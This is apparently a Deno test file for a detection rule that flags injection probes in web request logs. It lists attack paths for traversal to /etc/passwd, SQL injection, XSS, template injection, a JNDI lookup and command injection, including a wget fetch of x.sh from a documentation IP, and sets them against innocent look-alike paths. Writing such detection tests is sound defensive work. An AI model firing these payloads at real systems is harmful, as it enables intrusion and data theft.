import { HOUR } from "../../../lib/base/duration.ts";
import { injectionProbe } from "../../../lib/detection/rules/injection_probe.ts";
import { ofPath } from "../../../lib/signals/path.ts";
import { triesUntilNow } from "../../../lib/signals/grammar.ts";
import { BIT } from "../../../lib/signals/signal.ts";
import { signalsOf } from "../../../lib/signals/signals.ts";
import { assertEquals } from "@std/assert";
import fc from "fast-check";
import { holdsTo, spread, type Table, visits } from "./_table.ts";
import { FLAG, type RequestRecord } from "../../../lib/log/request_record.ts";

const ATTACKS = [
  "/..%2f..%2f..%2fetc/passwd",
  "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "/..%252f..%252f..%252fetc%252fpasswd",
  "/static/..%5c..%5cwindows%5cwin.ini",
  "/..;/manager/html",
  "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
  "/index.php/php://filter/convert.base64-encode/resource=x",
  "/item/1'%20or%20'1'='1",
  "/item/1%27+OR+1=1--",
  "/item/1%20UNION/**/SELECT/**/NULL,NULL--",
  "/item/1+union+all+select+1,2,3",
  "/item/1;waitfor%20delay%20'0:0:5'--",
  "/item/1'%20and%20sleep(5)--",
  "/search/<script>alert(1)</script>",
  "/search/%3Csvg/onload=alert(1)%3E",
  "/search/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
  "/page/{{7*7}}",
  "/page/%7B%7B7*'7'%7D%7D",
  "/page/$%7B7*7%7D",
  "/page/{{config.items()}}",
  "/page/$%7Bjndi:ldap://203.0.113.5/a%7D",
  "/page/<%=7*7%>",
  "/page/%25%7B(%23_memberaccess='x')%7D.action",
  "/page/{{''.__class__.__mro__}}",
  "/ping/127.0.0.1;cat%20/etc/hosts",
  "/ping/127.0.0.1|wget%20http://203.0.113.5/x.sh",
  "/ping/127.0.0.1;id",
  "/ping/$(whoami)",
  "/ping/`id`",
  "/shell;/bin/bash",
];

const INNOCENT = [
  "/",
  "/blog/2015/05/17/select-a-union-rep",
  "/blog/drop-table-stakes",
  "/wiki/SQL_injection",
  "/wiki/UNION",
  "/wiki/O'Reilly_Media",
  "/wiki/C%2B%2B",
  "/wiki/Rock_%26_Roll",
  "/search/cats%20or%20dogs",
  "/search/salt%20and%20pepper",
  "/order/by/price",
  "/docs/%7B%7Bimage.url%7D%7D",
  "/docs/%7B%7B%20title%20%7D%7D",
  "/docs/$%7Bpath%7D/index.js",
  "/docs/$(this).attr(href)",
  "/docs/script",
  "/docs/shell",
  "/docs/etc/passwords-explained",
  "/docs/../docs/index.html",
  "/files/report%20(1).pdf",
  "/files/100%25.txt",
  "/files/a;b=c/d",
  "/projects/xdotool%3E",
  "/projects/xdotool/+++++Result:+chosen+nickname+%22awarovadoms%22;sent;",
  "/blog/i+never+liked+c%27s+assert%28%29+feature",
  "/cats;cat=5",
  "/user/javascript",
  "/%E0%A4%A",
  "/css/font.ttf)%20format(%22truetype%22",
  "/shop/sleep",
  "/benchmark",
];

const seen = (path: string) =>
  visits([path], {
    signals: signalsOf({ method: "GET", target: path, headers: [] }),
  });

const ODD_NAME = visits(["/doku.php"], {
  signals: BIT.code,
  flags: FLAG.pageName,
});

const table: Table<RequestRecord> = Object.fromEntries([
  ...ATTACKS.map((path) => [path, [seen(path), "warning"]]),
  ...INNOCENT.map((path) => [path, [seen(path), null]]),
  ["a path that was stored before signals were", [
    visits(["/..%2f..%2f..%2fetc/passwd"]),
    "warning",
  ]],
  ["a search for SQL in a forge, from its page", [
    visits(["/search"], {
      signals: BIT.sqli,
      referrer: "https://git.example.org/web/shop",
    }),
    "info",
  ]],
  ["the same that was not served", [
    visits(["/search"], {
      signals: BIT.sqli,
      status: 500,
      referrer: "https://git.example.org/web/shop",
    }),
    "warning",
  ]],
  ["a signed-in user's page about it", [
    visits(["/wiki"], { signals: BIT.xss, username: "ann" }),
    "info",
  ]],
  ["a wiki's page with an odd name among others", [
    [...visits(["/doku.php", "/doku.php"]), ...ODD_NAME],
    "info",
  ]],
  ["an odd name by itself", [ODD_NAME, "warning"]],
  ["an odd name that no page has", [
    [
      ...visits(["/doku.php", "/doku.php"]),
      ...visits(["/doku.php"], { ...ODD_NAME[0], status: 404 }),
    ],
    "warning",
  ]],
  ["odd names by a client that mostly fails", [
    [
      ...spread(3, [0, HOUR - 1], { path: "/x", status: 404 }),
      ...visits(["/doku.php"]),
      ...ODD_NAME,
    ],
    "warning",
  ]],
  ["an attack among a wiki's pages", [
    [
      ...visits(["/doku.php", "/doku.php"]),
      ...visits(["/doku.php"], { signals: BIT.code }),
      ...ODD_NAME,
    ],
    "warning",
  ]],
  ["what is sent in the query", [
    visits(["/item"], { signals: BIT.rce }),
    "warning",
  ]],
  ["five over the hour", [
    spread(5, [0, HOUR - 1], { path: ATTACKS[0] }),
    "warning",
  ]],
  ["six over the hour", [
    spread(6, [0, HOUR - 1], { path: ATTACKS[0] }),
    "critical",
  ]],
  ["six over two hours", [
    spread(6, [-HOUR + 1, HOUR - 1], { path: ATTACKS[0] }),
    "warning",
  ]],
  ["what our blocklist refused", [
    spread(9, [0, HOUR - 1], {
      path: ATTACKS[0],
      status: 403,
      outcome: "blocked",
    }),
    null,
  ]],
]);
holdsTo(injectionProbe(), table);

Deno.test("injection_probe: no path throws, nor takes more tries than its length allows", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 600, unit: "binary" }), (text) => {
      ofPath(`/${text}`);
    }),
    { numRuns: 500 },
  );
  const hostile = ["../", "{{", "{{ 1", "; ", ";cat ", "%25", "/**/", "' or "];
  for (const piece of [...hostile, "${", "((((", "|  ", "union select "]) {
    const tries = (length: number) => {
      const before = triesUntilNow();
      ofPath("/" + piece.repeat(length / piece.length));
      return triesUntilNow() - before;
    };
    const [short, long] = [tries(5_000), tries(10_000)];
    assertEquals(
      long <= 2 * short + 1_000,
      true,
      `${piece}: ${short}, ${long}`,
    );
    // Only this much of longer paths is analysed
    assertEquals(tries(400_000) <= 8 * short + 1_000, true, piece);
  }
});
